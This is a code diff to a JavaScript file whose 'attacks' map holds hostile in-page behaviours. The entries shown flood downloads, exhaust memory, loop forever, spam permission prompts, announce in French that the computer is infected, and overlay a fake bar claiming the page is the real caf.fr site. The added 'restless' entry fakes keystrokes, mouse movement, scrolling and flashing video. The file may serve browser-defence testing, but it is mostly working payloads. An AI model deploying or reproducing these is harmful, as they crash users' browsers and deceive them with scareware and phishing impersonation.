@@ -109,6 +109,15 @@ attacks['download-storm'] = () => setInterval(() => put('a', {href: 'data:applic
 attacks['allocation'] = () => { const kept = []; for (;;) kept.push(new Uint8Array(64 << 20).fill(1)); };
 attacks['endless-loop'] = () => { for (;;); };
 attacks['permission-storm'] = () => { quietly(() => Notification.requestPermission()); navigator.geolocation.getCurrentPosition(() => {}); quietly(() => navigator.mediaDevices.getUserMedia({video: true})); };
+attacks['restless'] = () => {
+  const field = put('input', {autofocus: true}); field.focus();
+  setInterval(() => { field.value += 'a'; field.dispatchEvent(new KeyboardEvent('keydown', {key: 'a'})); scrollBy(0, 1); }, 40);
+  setInterval(() => document.body.dispatchEvent(new MouseEvent('mousemove', {clientX: Math.random() * 99})), 40);
+  const film = document.createElement('canvas'), brush = film.getContext('2d');
+  setInterval(() => { brush.fillStyle = '#' + Math.random().toString(16).slice(2, 8); brush.fillRect(0, 0, 300, 150); }, 30);
+  const video = put('video', {muted: true, srcObject: film.captureStream()}); quietly(() => video.play());
+  put('p', {textContent: '…'}).animate([{opacity: 0}, {opacity: 1}], {duration: 500, iterations: Infinity});
+};
 attacks['speech'] = () => speechSynthesis.speak(new SpeechSynthesisUtterance('Votre ordinateur est infecté'));
 attacks['fake-bar'] = () => put('div', {textContent: 'Vous êtes sur le vrai site : www.caf.fr', style: 'position:fixed;inset:0 0 auto;background:#fff;padding:30px;z-index:99'});
 
